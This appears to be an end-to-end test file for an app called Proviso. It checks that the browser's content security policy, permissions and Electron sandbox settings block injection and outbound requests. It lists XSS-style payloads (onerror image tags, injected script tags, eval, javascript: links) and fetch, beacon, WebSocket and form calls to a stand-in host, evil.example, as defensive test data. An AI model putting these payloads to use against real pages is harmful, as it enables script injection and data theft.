import {writeFile} from "node:fs/promises"
import {join} from "node:path"
import type {Page} from "@playwright/test"
import {expect, hostName, test} from "./app"
import {articleNamed, newBill, words} from "./steps"

/** What a page that a stranger's file had taken over would try, tried from inside the page: each is a breach that the browser stops. */

declare global {
  interface Window {
    /** Set by whatever gets to run. */
    hit?: string
  }
}

const evil = "https://evil.example"

/* eslint-disable @typescript-eslint/no-unnecessary-type-assertion -- the addresses of modules that must not be resolved */
/** A way to run or to fetch something, and the parts of the policy that may stop it; the first one there is enough. */
const attempts: Readonly<Record<string, readonly [() => unknown, string]>> = {
  "an inline script": [
    () => {
      const script = document.createElement("script")
      script.append("window.hit = 'inline'")
      document.body.append(script)
    },
    "script-src-elem|require-trusted-types-for",
  ],
  "a script from elsewhere": [
    () => {
      const script = document.createElement("script")
      script.setAttribute("src", "https://evil.example/a.js")
      document.body.append(script)
    },
    "script-src-elem|require-trusted-types-for",
  ],
  eval: [() => void (0, eval)("window.hit = 'eval'"), "script-src|require-trusted-types-for"],
  "new Function": [
    () => void Reflect.construct(Function, ["window.hit = 'Function'"]),
    "script-src|require-trusted-types-for",
  ],
  "a timer with text": [
    () => setTimeout("window.hit = 'timer'" as unknown as () => void),
    "script-src|require-trusted-types-for",
  ],
  "a module from elsewhere": [
    () => import("https://evil.example/b.js" as string).catch(() => undefined),
    "script-src-elem",
  ],
  "a module in its address": [
    () => import("data:text/javascript,window.hit='data'" as string).catch(() => undefined),
    "script-src-elem",
  ],
  "a handler in an attribute": [
    () => {
      const button = document.createElement("button")
      button.setAttribute("onclick", "window.hit = 'onclick'")
      document.body.append(button)
      button.click()
      button.remove()
    },
    "script-src-attr|require-trusted-types-for",
  ],
  "a javascript: link": [
    () => {
      const link = document.createElement("a")
      link.href = "javascript:void(window.hit = 'link')"
      document.body.append(link)
      link.click()
      link.remove()
    },
    "script-src-elem|require-trusted-types-for",
  ],
  innerHTML: [
    () => (document.createElement("div").innerHTML = "<img src=x onerror=\"hit='img'\">"),
    "require-trusted-types-for",
  ],
  insertAdjacentHTML: [
    () => document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\"hit='adj'\">"),
    "require-trusted-types-for",
  ],
  "document.write": [
    () => document.write("<script>hit='write'</script>"),
    "require-trusted-types-for",
  ],
  DOMParser: [
    () => new DOMParser().parseFromString("<p>", "text/html"),
    "require-trusted-types-for",
  ],
  "a frame with text": [
    () => (document.createElement("iframe").srcdoc = "<script>parent.hit='srcdoc'</script>"),
    "require-trusted-types-for",
  ],
  "a policy of its own": [
    () =>
      (
        window as unknown as {trustedTypes: {createPolicy(name: string, rules: object): void}}
      ).trustedTypes.createPolicy("mine", {createHTML: (text: string) => text}),
    "trusted-types",
  ],
  "a worker from a blob": [
    () => {
      const type = "text/javascript"
      return new Worker(URL.createObjectURL(new Blob(["fetch('https://evil.example')"], {type})))
    },
    "worker-src|require-trusted-types-for",
  ],
  "a frame": [() => put("iframe", "src", "https://evil.example/frame"), "frame-src"],
  "an object": [
    () => put("object", "data", "https://evil.example/object"),
    "object-src|require-trusted-types-for",
  ],
  "an embedded file": [
    () => put("embed", "src", "https://evil.example/embed"),
    "object-src|require-trusted-types-for",
  ],
  "a picture": [() => put("img", "src", "https://evil.example/a.png"), "img-src"],
  "a picture in its address": [
    () => put("img", "src", "data:image/gif;base64,R0lGODlh"),
    "img-src",
  ],
  "a film": [() => put("video", "src", "https://evil.example/a.mp4"), "media-src"],
  "a style sheet": [
    () => {
      const link = document.createElement("link")
      link.rel = "stylesheet"
      link.href = "https://evil.example/a.css"
      document.head.append(link)
    },
    "style-src-elem",
  ],
  "a style element": [
    () => {
      const style = document.createElement("style")
      style.append("body { background: url(https://evil.example/b.png) }")
      document.head.append(style)
      style.remove()
    },
    "style-src-elem",
  ],
  "a style attribute": [() => put("p", "style", "position: fixed; inset: 0"), "style-src-attr"],
  "a font": [
    () => new FontFace("x", "url(https://evil.example/a.woff2)").load().catch(() => undefined),
    "font-src",
  ],
  "a base for all addresses": [() => put("base", "href", "https://evil.example/"), "base-uri"],
  "a form": [
    () => {
      const form = document.createElement("form")
      form.action = "https://evil.example/form"
      document.body.append(form)
      form.requestSubmit()
      form.remove()
    },
    "form-action",
  ],
  "a fetch": [() => fetch("https://evil.example/fetch").catch(() => undefined), "connect-src"],
  "a beacon": [() => navigator.sendBeacon("https://evil.example/beacon", "a"), "connect-src"],
  "a request": [
    () => {
      const request = new XMLHttpRequest()
      request.open("POST", "https://evil.example/xhr")
      request.send("a")
    },
    "connect-src",
  ],
  "a web socket": [() => new WebSocket("wss://evil.example/"), "connect-src"],
  "a source of events": [() => new EventSource("https://evil.example/events"), "connect-src"],
  "another program of this computer": [
    () => fetch("http://127.0.0.1:9/").catch(() => undefined),
    "connect-src",
  ],
}

/* eslint-enable @typescript-eslint/no-unnecessary-type-assertion */
/** Stands in the page; here for the types. */
declare function put(name: string, attribute: string, value: string): void

/**
 * The part of the policy that stopped an attempt; "nothing" where none did. The protocol by which this runs may use eval, so the attempt runs later, when
 * it is the page's own.
 */
function stoppedBy(page: Page, run: () => unknown): Promise<string> {
  return page.evaluate<string>(`new Promise((done) => {
    const put = (name, attribute, value) => {
      const element = document.createElement(name)
      try {
        element.setAttribute(attribute, value)
        document.body.append(element)
      } finally {
        // A frame or a picture is asked for when it stands in the page.
        setTimeout(() => element.remove())
      }
    }
    const late = setTimeout(() => done("nothing"), 10_000)
    document.addEventListener(
      "securitypolicyviolation",
      ({effectiveDirective}) => {
        clearTimeout(late)
        done(effectiveDirective)
      },
      {once: true},
    )
    setTimeout(() => {
      try {
        ;(${run.toString()})()
      } catch (error) {
        // What the policy stops may throw as well.
        if (!(error instanceof Error)) throw error
      }
    })
  })`)
}

test("nothing runs in the window that Proviso did not bring, and nothing is fetched from anywhere", async ({
  app,
}) => {
  const {page, watch} = app
  const reached: string[] = []
  page.context().on("response", (response) => {
    if (response.url().startsWith(evil)) reached.push(response.url())
  })
  const address = page.url()
  for (const [what, [run, directives]] of Object.entries(attempts)) {
    expect(await stoppedBy(page, run), what).toMatch(new RegExp(`^(${directives})$`))
  }
  expect(await page.evaluate(() => window.hit)).toBeUndefined()
  expect(page.url()).toBe(address)
  expect(reached).toEqual([])
  // Not by a locator, which would wait for the navigations that never come.
  expect(await page.evaluate(() => document.querySelector("h1")?.textContent)).toBe("Proviso")
  // Expected: each was told of, and some as a request that the policy stopped before it left.
  expect(watch.breaches.length).toBeGreaterThanOrEqual(Object.keys(attempts).length - 5)
  for (const list of [watch.breaches, watch.outside]) list.length = 0
})

test("the window has none of the rights that a browser can give", async ({app}) => {
  const {page} = app
  // Granted by the browser, so that it is Proviso that refuses.
  if (hostName === "loopback") {
    await page.context().grantPermissions(["geolocation", "camera", "microphone", "midi"])
  }
  const refused = await page.evaluate(async () => {
    const name = (error: unknown) => (error instanceof DOMException ? error.name : String(error))
    const {featurePolicy} = document as unknown as {
      featurePolicy: {allowsFeature(feature: string): boolean}
    }
    const features = ["camera", "microphone", "geolocation", "usb", "serial", "hid", "bluetooth"]
    return {
      allowed: features.filter((feature) => featurePolicy.allowsFeature(feature)),
      place: await new Promise<number | string>((done) =>
        navigator.geolocation.getCurrentPosition(
          () => done("told"),
          ({code}) => done(code),
          {timeout: 5_000},
        ),
      ),
      screen: await navigator.mediaDevices.getDisplayMedia({video: true}).then(() => "on", name),
      music: await navigator.requestMIDIAccess().then(() => "on", name),
      notes: await Notification.requestPermission(),
    }
  })
  const {screen, music, ...plain} = refused
  expect(screen).toMatch(/^(NotAllowedError|InvalidStateError|NotSupportedError)$/)
  expect(music).toMatch(/^(NotAllowedError|SecurityError)$/)
  expect(plain).toEqual({
    allowed: [],
    place: 1,
    notes: "denied",
  })
})

test("a file, an address or a page that is dropped on the window leads nowhere", async ({app}) => {
  test.skip(
    hostName === "electron",
    "a drop from outside is made by the protocol of a browser’s page",
  )
  const {page, home} = app
  const file = join(home, "stranger.html")
  await writeFile(file, "<title>Stranger</title><script>document.title = 'ran'</script>")
  await newBill(page, "I General provisions")
  const address = page.url()
  const title = await page.title()
  const protocol = await page.context().newCDPSession(page)
  const dropped = [
    {items: [], files: [file]},
    {items: [{mimeType: "text/uri-list", data: `${evil}/`}], files: []},
    {
      items: [{mimeType: "text/html", data: `<img src="${evil}/a.png" onerror="hit=1">`}],
      files: [],
    },
  ]
  const places = [
    page.getByRole("toolbar").first(),
    page.locator(".status-bar"),
    words(articleNamed(page, "Scope of application")).first(),
  ]
  for (const data of dropped) {
    for (const place of places) {
      await place.scrollIntoViewIfNeeded()
      const box = await place.boundingBox()
      if (!box) throw new RangeError("It is not in sight")
      const at = {x: box.x + box.width / 2, y: box.y + box.height / 2}
      for (const type of ["dragEnter", "dragOver", "drop"] as const) {
        await protocol.send("Input.dispatchDragEvent", {
          type,
          ...at,
          data: {...data, dragOperationsMask: 1},
        })
      }
    }
  }
  // A page of our own is told of after those that came before it.
  const own = await page.context().newPage()
  expect(page.context().pages()).toEqual([page, own])
  expect(await page.evaluate(() => window.hit)).toBeUndefined()
  expect(page.url()).toBe(address)
  expect(await page.title()).toContain(title.split(" ")[0] ?? "")
  // The text reads what is dropped on it in a document apart, where the policy stops the handler too.
  for (const breach of app.watch.breaches.splice(0))
    expect(breach).toContain("inline event handler")
  await expect(articleNamed(page, "Scope of application")).toBeVisible()
})

test("Electron itself says that its windows are confined, and that they stay where they are", async ({
  app,
}) => {
  const {electron, page, watch} = app
  test.skip(electron === null, "Electron’s program is not on this computer")
  if (!electron) return
  const preferences = await electron.evaluate(({webContents}) =>
    webContents
      .getAllWebContents()
      .map((contents) => ({...(contents as unknown as Confined).getLastWebPreferences()})),
  )
  expect(preferences.length).toBeGreaterThan(0)
  for (const each of preferences) {
    expect(each).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      webviewTag: false,
    })
  }
  expect(
    await page.evaluate(() => [typeof globalThis, "require" in window, "process" in window]),
  ).toEqual(["object", false, false])
  const address = page.url()
  expect(await page.evaluate((to) => window.open(to) === null, evil)).toBe(true)
  for (const way of ["location", "link", "blank", "middle", "refresh"]) {
    await page.evaluate(
      ([kind, to]) => {
        if (kind === "location") return location.assign(to ?? "")
        const made = document.createElement(kind === "refresh" ? "meta" : "a")
        if (made instanceof HTMLAnchorElement) {
          made.href = to ?? ""
          if (kind === "blank") made.target = "_blank"
        } else {
          made.setAttribute("http-equiv", "refresh")
          made.setAttribute("content", `0; url=${to}`)
        }
        document.body.append(made)
        made.dispatchEvent(new MouseEvent("click", {button: kind === "middle" ? 1 : 0}))
        made.remove()
      },
      [way, evil],
    )
  }
  await expect(page.getByRole("heading", {name: "Proviso", level: 1})).toBeVisible()
  expect(page.url()).toBe(address)
  expect(electron.windows()).toHaveLength(1)
  watch.outside.length = 0
})

interface Confined {
  getLastWebPreferences(): Readonly<Record<string, unknown>>
}
